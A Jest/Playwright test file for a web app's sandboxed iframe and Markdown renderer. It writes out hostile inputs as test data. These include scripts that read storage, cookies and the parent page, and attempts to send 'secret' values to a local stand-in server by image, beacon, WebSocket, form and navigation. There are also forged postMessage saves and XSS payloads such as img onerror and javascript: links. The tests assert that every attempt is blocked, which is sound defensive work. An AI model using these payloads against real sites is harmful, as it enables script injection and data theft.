import { afterAll, beforeAll, describe, expect, it, jest } from "@jest/globals";
import type { BrowserContext, Page } from "playwright-core";
import { Outside } from "./outside.js";
import { SiteStage } from "./site-stage.js";

jest.setTimeout(120_000);

let stage: SiteStage;
let person: BrowserContext;

beforeAll(async () => {
  stage = await SiteStage.open();
  person = await stage.person();
  await stage.tab(person, "/");
});

afterAll(async () => {
  await stage[Symbol.asyncDispose]();
});

async function openAuthored(html: string): Promise<{ id: string; page: Page }> {
  const presentation = { kind: "html-v1", html, fallback: "The plain text of it." };
  const id = await stage.service.ask("Look at this", { presentation });
  const page = await stage.tab(person, `/threads/${id}`);
  await page.getByText("The same in plain text").waitFor();
  return { id, page };
}

/** Writes what each attempt came to into the page, where the test can read it. */
function report(attempts: Readonly<Record<string, string>>): string {
  const lines = Object.entries(attempts).map(
    ([name, code]) =>
      `try { const r = await (async () => { ${code} })(); out(${JSON.stringify(name)}, "reached", r); }
       catch (e) { out(${JSON.stringify(name)}, "refused", e.name); }`,
  );
  return `<pre id=report></pre><script>
    const out = (name, what, more) => { report.textContent += name + ": " + what + " " + more + "\\n"; };
    (async () => { ${lines.join("\n")} out("all", "done", ""); })();
  </script>`;
}

async function readReport(page: Page): Promise<readonly string[]> {
  const place = page.frameLocator("iframe").locator("#report");
  await place.getByText("all: done").waitFor();
  const text = (await place.textContent()) ?? "";
  return text.split("\n").filter((line) => line !== "" && !line.startsWith("all:"));
}

describe("an authored page on the website", () => {
  it("proposes values, which only Save records", async () => {
    const { id, page } = await openAuthored(
      "<button onclick=\"Threadroom.propose({ days: 90 }, 'Keep 90 days')\">Propose</button>",
    );
    await page.frameLocator("iframe").getByRole("button", { name: "Propose" }).click();
    await page.getByText("Keep 90 days").waitFor();
    const before = await stage.service.read(id);
    await page.getByRole("button", { name: "Save answer" }).click();
    await page.getByText("Saved.").waitFor();

    const after = await stage.service.read(id);
    expect(before.children).toEqual([]);
    expect(after.children[0]?.response?.selections).toMatchObject([
      { label: "Keep 90 days", value: { days: 90 } },
    ]);
    await page.close();
  });

  it("stands in a frame that may run scripts and nothing else, small and large (3-10)", async () => {
    const { page } = await openAuthored("<p>here</p>");
    const frame = page.locator("iframe");
    const small = await frame.getAttribute("sandbox");
    await page.getByRole("button", { name: "Larger" }).click();

    expect([small, await frame.getAttribute("sandbox")]).toEqual([
      "allow-scripts",
      "allow-scripts",
    ]);
    expect(await page.locator("iframe").count()).toBe(1);
    await page.close();
  });

  it("reaches neither storage, cookies, the page around it nor the service (3-09)", async () => {
    const { page } = await openAuthored(
      report({
        localStorage: "return localStorage.length",
        sessionStorage: "return sessionStorage.length",
        cookie: "return document.cookie",
        parent: "return parent.document.title",
        top: "return top.location.href",
        fetch: "return (await fetch('/api/counts')).status",
        absolute: `return (await fetch('${stage.service.url}/api/counts')).status`,
        worker: "return navigator.serviceWorker.register('/sw.js')",
        database: "return indexedDB.open('a')",
      }),
    );

    const lines = await readReport(page);
    expect(lines).toHaveLength(9);
    expect(lines.filter((each) => !each.includes("refused"))).toEqual([]);
    await page.close();
  });

  it("cannot send anything anywhere: pictures, beacons, forms, sockets, popups, frames (3-11)", async () => {
    await using outside = await Outside.open();
    const { page } = await openAuthored(
      `<form action="${outside.url}/form" id=f><input name=a></form><link rel=prefetch href="${outside.url}/pre">
       <iframe src="${outside.url}/nested"></iframe>
       ${report({
         picture: `const i = new Image(); i.src = '${outside.url}/pic?secret'; await new Promise((y, n) => { i.onload = y; i.onerror = () => n(new TypeError()); })`,
         beacon: `if (!navigator.sendBeacon('${outside.url}/beacon', 'x')) throw new TypeError()`,
         form: "f.submit(); throw new TypeError()",
         popup: `if (!open('${outside.url}/popup')) throw new TypeError()`,
         socket: `await new Promise((y, n) => { const s = new WebSocket('ws://${outside.host}'); s.onopen = y; s.onerror = () => n(new TypeError()); })`,
         top: `top.location = '${outside.url}/top'`,
       })}`,
    );

    await readReport(page);

    expect(outside.requests).toBe(0);
    expect(page.url()).toContain(stage.service.url);
    expect(person.pages().length).toBe(2);
    await page.close();
  });

  it("is not heard beside its channel: forged saves and messages of nested frames (3-11)", async () => {
    const forged = "{ type: 'threadroom:proposal', values: { forged: true }, summary: 'Forged' }";
    const { id, page } = await openAuthored(
      `<iframe srcdoc="<script>top.postMessage(${forged}, '*'); top.postMessage({ type: 'threadroom:hello' }, '*', [new MessageChannel().port1])</script>"></iframe>
       <script>
         parent.postMessage(${forged}, "*");
         parent.postMessage({ type: "threadroom:save", body: "Forged" }, "*");
       </script>
       <button onclick="Threadroom.propose(1, 'Real')">Propose</button>`,
    );
    await page.frameLocator("iframe").getByRole("button", { name: "Propose" }).click();
    await page.getByText("Real", { exact: true }).waitFor();

    expect(await page.getByText("Forged").count()).toBe(0);
    expect((await stage.service.read(id)).children).toEqual([]);
    await page.close();
  });

  it("is not heard any more, once it navigated its frame to another node's page (3-11)", async () => {
    const other = await stage.service.ask("The other one", {
      presentation: {
        kind: "html-v1",
        html: "<script>Threadroom.propose('other', 'Smuggled in')</script>",
        fallback: "x",
      },
    });
    const { page } = await openAuthored(
      `<script>
         addEventListener("load", () => { location = "/api/nodes/${other}/presentation"; });
       </script>`,
    );

    await page.getByText("This page has left its place").waitFor();
    expect(await page.getByText("Smuggled in").count()).toBe(0);
    expect(await page.locator("iframe").count()).toBe(0);
    await page.close();
  });

  it("cannot carry values away in an address: navigating out is blocked and shown (3-11)", async () => {
    await using outside = await Outside.open();
    const { page } = await openAuthored(
      `<script>
         addEventListener("load", () => { location = "${outside.url}/?secret=1"; });
       </script>`,
    );

    await page.getByText("This page has left its place").waitFor();
    expect(outside.requests).toBe(0);
    await page.close();
  });

  it("keeps its plain text readable, when its script dies on storage (3-12)", async () => {
    const { page } = await openAuthored(
      "<script>sessionStorage.setItem('a', '1'); document.body.textContent = 'ready'</script>",
    );
    await page.getByText("The same in plain text").click();

    await page.getByText("The plain text of it.").waitFor();
    expect(await page.locator("iframe").getAttribute("sandbox")).toBe("allow-scripts");
    await page.close();
  });

  it("does not open as a page of its own", async () => {
    const presentation = { kind: "html-v1", html: "<p>alone</p>", fallback: "x" };
    const id = await stage.service.ask("Alone?", { presentation });
    const page = await person.newPage();

    const response = await page.goto(`${stage.service.url}/api/nodes/${id}/presentation`);

    expect(response?.status()).toBe(403);
    await page.close();
  });
});

describe("text on the website", () => {
  it("is Markdown in which nothing runs, styles or reaches out", async () => {
    const dialogs: string[] = [];
    await using outside = await Outside.open();
    const body = [
      "**bold** <img src=x onerror=alert(1)> <script>alert(2)</script>",
      "[run](javascript:alert(3)) [out](https://elsewhere.example/)",
      `![far](${outside.url}/a.png)`,
      '<style>body{display:none}</style><form action="/api/nodes"><button>Go</button></form>',
      '<a href="/" style="position:fixed;inset:0">cover</a><iframe src="/"></iframe>',
    ].join("\n\n");
    const id = await stage.service.ask("Harmless?", { body });
    const page = await person.newPage();
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`${stage.service.url}/threads/${id}`);
    const prose = page.locator(".prose");
    await prose.getByText("bold").waitFor();

    expect(dialogs).toEqual([]);
    expect(outside.requests).toBe(0);
    for (const name of ["script", "style", "form", "button", "iframe", "[style]", "[onerror]"]) {
      expect(await prose.locator(name).count()).toBe(0);
    }
    const outward = prose.getByRole("link", { name: "out" });
    expect(await outward.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await prose.getByText("run").getAttribute("href")).toBeNull();
    await page.close();
  });

  it("shows records of any shape, as an older database may hold them", async () => {
    const id = await stage.service.ask("Odd");
    const page = await person.newPage();
    await page.route(`**/api/nodes/${id}?*`, async (route) => {
      const response = await route.fetch();
      const view = await response.json();
      const odd = { author: { name: { first: "?" } }, presentation: "none", title: 7 };
      const child = { id: "c", author: 1, response: { kind: "answer", selections: [null, 3] } };
      const json = { ...view, node: { ...view.node, ...odd }, children: [child, null] };
      await route.fulfill({ response, json });
    });
    await page.goto(`${stage.service.url}/threads/${id}`);

    await page.getByRole("heading", { level: 1, name: "Untitled" }).waitFor();
    expect(await page.locator(".room-meta .author").textContent()).toBe("Someone");
    expect(await page.locator(".reply").count()).toBe(2);
    await page.close();
  });
});
